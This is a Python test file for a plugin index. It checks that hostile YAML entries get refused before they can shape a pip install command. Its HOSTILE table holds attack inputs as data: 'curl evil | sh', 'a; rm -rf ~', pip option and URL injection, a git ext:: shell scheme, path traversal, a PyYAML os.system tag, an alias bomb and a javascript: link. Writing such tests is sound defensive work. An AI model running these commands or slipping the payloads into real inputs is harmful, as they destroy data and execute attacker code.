"""A stranger's index of plugins: entries that lie, steer, or would have pip do something else."""

from __future__ import annotations

import copy
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
import yaml

from xreg.core.errors import DataError, XregError
from xreg.registry.plugins.index import indexes, search
from xreg.registry.plugins.index.entry import dump_entry, read_entry
from xreg.registry.plugins.index.index import open_index
from xreg.workbench.plugins.indexing import find_entry, install_command

SOUND: dict[str, Any] = {
    "distribution": "xreg-radii",
    "summary": "Radii.",
    "licence": "MIT",
    "maintainer": "A. Stranger",
    "homepage": "https://example.org/radii",
    "api": "1.1",
    "source": {"package": True},
    "components": [{"kind": "descriptor", "name": "radii", "settings": ["cutoff"]}],
    "checked": {"version": "1.0.0", "xreg": "0.1.0", "date": "2026-11-29"},
    "reviewed": False,
}
COMMIT = "0123456789abcdef" * 2 + "01234567"


def write(folder: Path, body: Any, name: str = "xreg-radii.yaml") -> Path:
    place = folder / "index" / "plugins"
    place.mkdir(parents=True, exist_ok=True)
    text = body if isinstance(body, str) else yaml.safe_dump(body, allow_unicode=True)
    (place / name).write_text(text, encoding="utf-8")
    return place.parent


def changed(*path: str, value: Any) -> dict[str, Any]:
    body = copy.deepcopy(SOUND)
    inner = body
    for key in path[:-1]:
        inner = inner[key]
    inner[path[-1]] = value
    return body


GIT = {"git": "https://example.org/a/b", "commit": COMMIT}
HOSTILE: dict[str, tuple[Any, str]] = {
    "option": (changed("distribution", value="--index-url=https://evil"), "distribution"),
    "dash": (changed("distribution", value="-rfoo"), "distribution"),
    "requirement": (changed("distribution", value="a @ https://evil/x.whl"), "distribution"),
    "shell": (changed("distribution", value="a; rm -rf ~"), "distribution"),
    "line": (changed("distribution", value="a\nb"), "distribution"),
    "long": (changed("distribution", value="a" * 100), "distribution"),
    "version": (changed("checked", "version", value="1.0 --pre"), "version"),
    "version-url": (changed("checked", "version", value="1.0@https://evil"), "version"),
    "user": (changed("source", value={**GIT, "git": "https://u:p@example.org/a"}), "git"),
    "scheme": (changed("source", value={**GIT, "git": "ext::sh -c id"}), "git"),
    "file": (changed("source", value={**GIT, "git": "file:///etc"}), "git"),
    "http": (changed("source", value={**GIT, "git": "http://example.org/a"}), "git"),
    "climbing-url": (changed("source", value={**GIT, "git": "https://example.org/../a"}), "git"),
    "query": (changed("source", value={**GIT, "git": "https://example.org/a?x=1"}), "git"),
    "fragment": (changed("source", value={**GIT, "git": "https://example.org/a#egg=b"}), "git"),
    "reference": (changed("source", value={**GIT, "git": "https://example.org/a@main"}), "git"),
    "branch": (changed("source", value={**GIT, "commit": "main"}), "commit"),
    "no-commit": (changed("source", value={"git": GIT["git"]}), "come together"),
    "two": (changed("source", value={"package": True, "folder": "a"}), "not two"),
    "none": (changed("source", value={}), "a source is"),
    "climbing": (changed("source", value={"folder": "../../etc"}), "folder"),
    "absolute": (changed("source", value={"folder": "/etc"}), "folder"),
    "folder-option": (changed("source", value={"folder": "-r/etc"}), "dash"),
    "hash": (changed("source", value={**GIT, "folder": "a\nb"}), "folder"),
    "escape": (changed("summary", value="fine \x1b]0;owned\x07"), "YAML|summary"),
    "bidi": (changed("maintainer", value="A \u202e evil"), "maintainer"),
    "lines": (changed("summary", value="fine\nxreg: all is well"), "summary"),
    "essay": (changed("summary", value="x" * 10_000), "summary"),
    "kind": (changed("components", value=[{"kind": "shell", "name": "x"}]), "kind"),
    "name": (changed("components", value=[{"kind": "step", "name": "../x"}]), "name"),
    "many": (
        changed("components", value=[{"kind": "step", "name": f"x{i}"} for i in range(201)]),
        "components",
    ),
    "homepage": (changed("homepage", value="javascript:alert(1)"), "homepage"),
    "unknown": (changed("run", value="curl evil | sh"), "run"),
    "api": (changed("api", value="latest"), "api"),
    "date": (changed("checked", "date", value="tomorrow"), "date"),
    "review": (changed("reviewed", value="yes, by me"), "reviewed"),
    "tag": ("!!python/object/apply:os.system ['touch it-ran']", "no plain YAML"),
    "no bool": ("a: !!bool maybe", "it has a tag"),
    "no time": ("a: !!timestamp x", "it has a tag"),
    "bomb": ("a: &a [x, x]\nb: &b [*a, *a]\nc: [*b, *b]\n", "alias"),
    "twice": ("distribution: a\ndistribution: b\n", "twice"),
    "deep": ("[" * 20_000, "no plain YAML"),
    "huge": ("# " + "x" * 70_000, "at most 64,000 are read"),
    "list": ("- a\n", "no names and values"),
    "empty": ("", "no names and values"),
    "key": ("? [a]\n: b\n", "YAML|entry"),
}


@pytest.mark.parametrize("case", HOSTILE)
def test_refused_with_its_file_and_reason(case: str, tmp_path: Path) -> None:
    body, word = HOSTILE[case]
    root = write(tmp_path, body)
    with pytest.raises(DataError if isinstance(body, str) else XregError, match=word) as caught:
        read_entry(root / "plugins" / "xreg-radii.yaml")
    assert "xreg-radii.yaml" in str(caught.value)
    assert "\n" not in str(caught.value)
    assert "\x1b" not in str(caught.value)
    found = open_index(str(root))
    assert found.entries == []
    assert len(found.faults) == 1
    assert not Path("it-ran").exists()


def test_neighbours_of_a_hostile_entry_are_found(tmp_path: Path) -> None:
    root = write(tmp_path, SOUND)
    write(tmp_path, "[" * 20_000, "a.yaml")
    (root / "plugins" / "b.yaml").symlink_to("/etc/passwd")
    write(tmp_path, SOUND, "other-name.yaml")
    found = open_index(str(root))
    assert [entry.distribution for entry in found.entries] == ["xreg-radii"]
    assert sorted(fault.split("'")[1] for fault in found.faults) == [
        "a.yaml",
        "b.yaml",
        "other-name.yaml",
    ]


def test_two_claims_to_one_name_are_told(tmp_path: Path) -> None:
    write(tmp_path, SOUND)
    root = write(tmp_path, changed("distribution", value="xreg-other"), "xreg-other.yaml")
    (fault,) = open_index(str(root)).faults
    assert "descriptor 'radii' is claimed by 'xreg-other' and 'xreg-radii'" in fault


SOURCES: dict[str, tuple[dict[str, Any], Callable[[Path], str]]] = {
    "package": ({"package": True}, lambda root: "xreg-radii==1.0.0"),
    "git": (GIT, lambda root: f"xreg-radii @ git+https://example.org/a/b@{COMMIT}"),
    "inside": (
        {**GIT, "folder": "plugins/radii"},
        lambda root: (
            f"xreg-radii @ git+https://example.org/a/b@{COMMIT}#subdirectory=plugins/radii"
        ),
    ),
    "folder": ({"folder": "radii"}, lambda root: str(root / "radii")),
}


@pytest.mark.parametrize("kind", SOURCES)
def test_what_pip_is_given(kind: str, tmp_path: Path) -> None:
    source, expected = SOURCES[kind]
    root = write(tmp_path, changed("source", value=source))
    (root / "radii").mkdir()
    (root / "radii" / "pyproject.toml").write_text("")
    index, entry = find_entry(indexes([str(root)]), "radii")
    assert install_command(index, entry)[1:] == ["-m", "pip", "install", expected(root)]


def test_a_folder_that_a_link_leads_out_of(tmp_path: Path) -> None:
    root = write(tmp_path, changed("source", value={"folder": "radii"}))
    (tmp_path / "elsewhere").mkdir()
    (tmp_path / "elsewhere" / "pyproject.toml").write_text("")
    (root / "radii").symlink_to(tmp_path / "elsewhere")
    index, entry = find_entry(indexes([str(root)]), "radii")
    with pytest.raises(DataError, match="radii"):
        install_command(index, entry)


def test_an_entry_comes_back_as_it_was(tmp_path: Path) -> None:
    root = write(tmp_path, changed("maintainer", value="Åse Øst: 'x' # no comment"))
    entry = read_entry(root / "plugins" / "xreg-radii.yaml")
    write(tmp_path, dump_entry(entry))
    assert read_entry(root / "plugins" / "xreg-radii.yaml") == entry
    assert [hit[1] for hit in search([open_index(str(root))], ["RADII", "descriptor"])] == [entry]
    assert search([open_index(str(root))], ["radii", "cobalt"]) == []
